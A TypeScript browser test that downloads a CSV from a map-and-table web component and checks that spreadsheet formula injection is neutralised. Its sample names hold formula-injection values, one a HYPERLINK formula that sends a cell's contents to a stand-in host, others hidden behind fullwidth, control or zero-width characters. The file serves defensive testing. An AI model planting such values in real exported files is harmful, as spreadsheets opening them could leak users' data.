// What a reader saves from the table, clicked in a browser: no cell of the file is a formula to a spreadsheet.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createSiteServer, listen } from '../../scripts/serve.mjs';
import { launchChromium, watchComplaints } from '../chromium.js';
import { project } from './bundle-consumer.js';

/** Names as somebody could report them, for the villages of the sample, with what stands in the file for each. */
const NAMES: Readonly<Record<string, readonly [name: string, saved: string]>> = {
  '990101100201': ['+1%+HYPERLINK("http://x.example/?"&A1)', `'+1%+HYPERLINK("http://x.example/?"&A1)`],
  '990101100202': ['＝1+1', `'＝1+1`],
  '990101100203': ['\u0001=2+2', `'\u0001=2+2`],
  '990101200201': ["@SUM(A1:A9)'", `'@SUM(A1:A9)'`],
  '990101200202': ['\u200B－3+3', `'\u200B－3+3`],
};

let browser: Browser;
let folder = '';
let server: Server;
let address = '';

beforeAll(async () => {
  browser = await launchChromium();
  folder = mkdtempSync(join(tmpdir(), 'download-'));
  cpSync(join(project, 'packages/map/dist/cdn'), folder, { recursive: true });
  cpSync(join(project, 'packages/cli/samples/zh'), folder, { recursive: true });
  const roster = readFileSync(join(folder, 'areas.csv'), 'utf8')
    .split('\n')
    .map((line) => {
      const [code = '', , ...rest] = line.split(',');
      const name = NAMES[code]?.[0];
      return name === undefined ? line : [code, `"${name.replaceAll('"', '""')}"`, ...rest].join(',');
    });
  writeFileSync(join(folder, 'areas.csv'), roster.join('\n').replaceAll('北塘镇', '\t=北塘镇'));
  const plan = readFileSync(join(folder, 'plan.json'), 'utf8');
  writeFileSync(join(folder, 'plan.json'), plan.replace('示例数据：县', '=示例数据：县').replaceAll('"箱"', '"=箱"'));
  const reports = readFileSync(join(folder, 'observations.csv'), 'utf8');
  writeFileSync(join(folder, 'observations.csv'), reports.replaceAll(',箱,', ',=箱,').replace(',180,', ',-180,'));
  writeFileSync(
    join(folder, 'index.html'),
    `<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>table</title><link rel="icon" href="data:,">
    <script type="module" src="guatu.js"></script></head>
    <body><guatu-map renderer="svg" plan="plan.json" areas="areas.csv" data="observations.csv events.csv" target="hives-500" as-of="2027-12-31">
    <guatu-table></guatu-table></guatu-map></body></html>`,
  );
  server = createSiteServer({ '/': folder });
  address = await listen(server, 0);
});

afterAll(async () => {
  await browser.close();
  await new Promise((resolve) => server.close(resolve));
  rmSync(folder, { recursive: true, force: true });
});

/** The cells of a file, by the rules of RFC 4180 and nothing else. */
function readCells(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.some((cell) => cell !== ''));
}

/** Whether a spreadsheet would reckon: its first sign, behind what it may skip and in any width, begins a formula. */
function isFormula(cell: string): boolean {
  const [first = ''] = cell
    .replace(/^[\s\p{C}]+/u, '')
    .normalize('NFKC')
    .replace(/^−/, '-');
  return '=+-@'.includes(first) && first !== '' && !/^[+-]?[\d.]+%?$/.test(cell);
}

test('the downloaded table holds names, units and remarks as text', async () => {
  const page = await browser.newPage();
  const complaints = watchComplaints(page, address);
  await page.goto(address);
  const button = page.locator('guatu-table').locator('[part=download]');
  await expect.poll(() => page.locator('guatu-table').locator('tbody tr').count()).toBeGreaterThan(4);
  const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
  expect(download.suggestedFilename()).toBe('wanghe-2028-hives-500-2027-12-31.csv');
  const rows = readCells(readFileSync(await download.path(), 'utf8').replace(/^\uFEFF/, ''));
  const [heads = [], ...body] = rows;
  expect(Object.fromEntries(body.map(([code = '', name = '']) => [code, name]))).toMatchObject(
    Object.fromEntries(Object.entries(NAMES).map(([code, [, saved]]) => [code, saved])),
  );
  expect(Object.values(NAMES).every(([name]) => isFormula(name))).toBe(true);
  expect(rows.flat().filter(isFormula)).toEqual([]);
  // what is below zero is there, and told from nothing
  const upper = body.find(([code]) => code === '990101100201') ?? [];
  expect(upper[heads.indexOf('数值')]).toMatch(/180=箱$/);
  expect(complaints).toEqual([]);
  await page.close();
});
